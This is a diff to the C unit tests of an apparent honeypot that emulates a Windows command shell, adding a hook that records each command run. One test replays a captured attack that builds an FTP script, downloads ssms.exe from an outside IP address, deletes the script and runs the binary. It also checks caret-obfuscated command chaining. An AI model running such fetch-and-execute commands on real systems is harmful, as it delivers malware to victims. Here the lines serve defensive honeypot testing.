@@ -43,14 +43,29 @@ fetch(void *arg, const char *url)
 	snprintf(urls[nurls++], sizeof(urls[0]), "%s", url);
 }
 
+static char	cmds[16][256];
+static size_t	cmdout[16], ncmds;
+
+static void
+command(void *arg, const char *text, size_t len)
+{
+	(void)arg;
+	if (ncmds < 16) {
+		snprintf(cmds[ncmds], sizeof(cmds[0]), "%s", text);
+		cmdout[ncmds++] = len;
+	}
+}
+
 static void
 session(const struct sc_cmd_host *host, const char *attacker)
 {
-	struct sc_cmd_ops	ops = { collect, fetch, NULL };
+	struct sc_cmd_ops	ops = { .output = collect, .fetch = fetch,
+				    .command = command };
 
 	sc_cmd_free(st);
 	assert_non_null(st = sc_cmd_new(host, &ops, attacker));
 	nurls = 0;
+	ncmds = 0;
 }
 
 /* Runs line; out holds what it printed. */
@@ -308,6 +323,20 @@ test_ftp_honeynet(void **state)
 	    "&ssms.exe", "");
 	assert_int_equal(nurls, 1);
 	assert_string_equal(urls[0], "ftp://1:1@98.114.205.102:8884/ssms.exe");
+	/* Each command of the line as typed, once it ran. */
+	assert_int_equal(ncmds, 7);
+	assert_string_equal(cmds[0], "echo open 0.0.0.0 8884 > o");
+	assert_string_equal(cmds[1], "echo user 1 1 >> o");
+	assert_string_equal(cmds[4], "ftp -n -s:o");
+	assert_string_equal(cmds[5], "del /F /Q o");
+	assert_string_equal(cmds[6], "ssms.exe");
+	ncmds = 0;
+	expect("foo && echo skipped || e^cho x", NOT_RECOGNIZED("foo") "x\r\n");
+	assert_int_equal(ncmds, 2);
+	assert_string_equal(cmds[0], "foo");
+	assert_int_equal(cmdout[0], strlen(NOT_RECOGNIZED("foo")));
+	assert_string_equal(cmds[1], "e^cho x");
+	assert_int_equal(cmdout[1], 3);
 	/* The script is gone, the file it fetched is there. */
 	expect("type o", "The system cannot find the file specified.\r\n");
 	expect("type ssms.exe", "");
